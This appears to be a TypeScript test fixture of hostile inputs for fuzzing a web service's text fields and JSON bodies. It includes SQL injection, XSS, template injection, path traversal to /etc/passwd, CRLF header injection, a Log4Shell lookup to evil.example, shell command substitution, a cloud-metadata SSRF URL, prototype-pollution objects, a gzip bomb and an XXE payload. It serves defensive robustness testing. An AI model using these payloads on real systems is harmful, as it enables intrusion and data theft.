import { gzipSync } from 'node:zlib'

/** Hostile text for any text field (reliability of bad inputs). */
export const hostileTexts: readonly string[] = [
  "' or '1'='1",
  "'; drop table sessions; --",
  '1; select pg_sleep(10)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}#{7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'a\r\nset-cookie: __Host-attos=stolen',
  'a\r\n\r\nHTTP/1.1 200 OK',
  'a\u0000b',
  '\u0000',
  '\u202Egnp.exe',
  '\u2066a\u2069',
  '\uFEFFa',
  '\uD800',
  'a\uDFFFb',
  '\uD83D\uDE00'.repeat(60),
  'e\u0301'.repeat(90),
  'ﷺ'.repeat(30),
  '１２３４５',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '0x10',
  '1e400',
  '',
  ' ',
  '\t',
  '%00',
  '%2e%2e%2f',
  '%ED%A0%80',
  '%',
  'x'.repeat(101),
  'x'.repeat(5_000),
  '${jndi:ldap://evil.example/a}',
  '$(sleep 10)',
  '`sleep 10`',
  'http://169.254.169.254/latest/meta-data/',
]

/** Values of other kinds, as JSON text: some of them no JSON at all. */
export const hostileJson: readonly string[] = [
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '9007199254740993',
  '18446744073709551616',
  '0.1',
  'NaN',
  'Infinity',
  '01',
  'undefined',
  'null',
  'true',
  '[]',
  '[[]]',
  '["a"]',
  '[null]',
  '{}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":1,"valueOf":1,"length":1}',
  '{"$ne":null}',
  '"\\ud800"',
  '"\\u0000"',
  "'a'",
]

const nested = (open: string, close: string, depth: number): string =>
  `${open.repeat(depth)}1${close.repeat(depth)}`

const MIB = 1024 * 1024

/** Ten megabytes of blanks that travel as ten kilobytes. */
const bomb = gzipSync(Buffer.alloc(10 * MIB, ' '))

type Structure = {
  readonly name: string
  readonly payload: (sound: string) => string | Buffer
  readonly headers?: Readonly<Record<string, string>>
}

/** Bodies that are entirely wrong; `sound` is a valid body. */
export const structures: readonly Structure[] = [
  { name: 'a thousand brackets', payload: () => nested('[', ']', 1_000) },
  { name: 'a thousand braces', payload: () => nested('{"a":', '}', 1_000) },
  { name: 'a megabyte', payload: () => `{"a":"${'a'.repeat(MIB)}"}` },
  {
    name: 'fifteen hundred keys',
    payload: () => `{${Array.from({ length: 1_500 }, (_, at) => `"${at}":1`).join(',')}}`,
  },
  { name: 'nothing', payload: () => '' },
  { name: 'half', payload: (sound) => sound.slice(0, sound.length / 2) },
  { name: 'twice', payload: (sound) => sound + sound },
  { name: 'in a list', payload: (sound) => `[${sound}]` },
  { name: 'as text', payload: (sound) => JSON.stringify(sound) },
  { name: 'null', payload: () => 'null' },
  { name: 'a mark of byte order before', payload: (sound) => `\uFEFF${sound}` },
  { name: 'each key twice', payload: (sound) => sound.replace(/^\{(.+)\}$/s, '{$1,$1}') },
  {
    name: 'a key twice, another value first',
    payload: (sound) => sound.replace(/^\{("[^"]+"):/, '{$1:[1],$1:'),
  },
  { name: 'a prototype', payload: (sound) => sound.replace(/^\{/, '{"__proto__":{"polluted":true},') },
  {
    name: 'a constructor',
    payload: (sound) => sound.replace(/^\{/, '{"constructor":{"prototype":{"polluted":true}},'),
  },
  {
    name: 'bytes that are no text',
    payload: (sound) =>
      Buffer.concat([Buffer.from(sound.slice(0, 2)), Buffer.from([0xff, 0xfe]), Buffer.from(sound.slice(2))]),
  },
  {
    name: 'UTF-16',
    payload: (sound) => Buffer.from(sound, 'utf16le'),
    headers: { 'content-type': 'application/json; charset=utf-16' },
  },
  { name: 'a gzip bomb', payload: () => bomb, headers: { 'content-encoding': 'gzip' } },
  { name: 'gzip that is none', payload: (sound) => sound, headers: { 'content-encoding': 'gzip' } },
  { name: 'another type', payload: (sound) => sound, headers: { 'content-type': 'text/plain' } },
  {
    name: 'a form',
    payload: () => 'offerId=internet-gig&a[__proto__][b]=1',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  },
  {
    name: 'XML',
    payload: () => '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    headers: { 'content-type': 'application/xml' },
  },
  {
    name: 'an unknown type',
    payload: (sound) => sound,
    headers: { 'content-type': '\u0001/\u0002;;;' },
  },
]
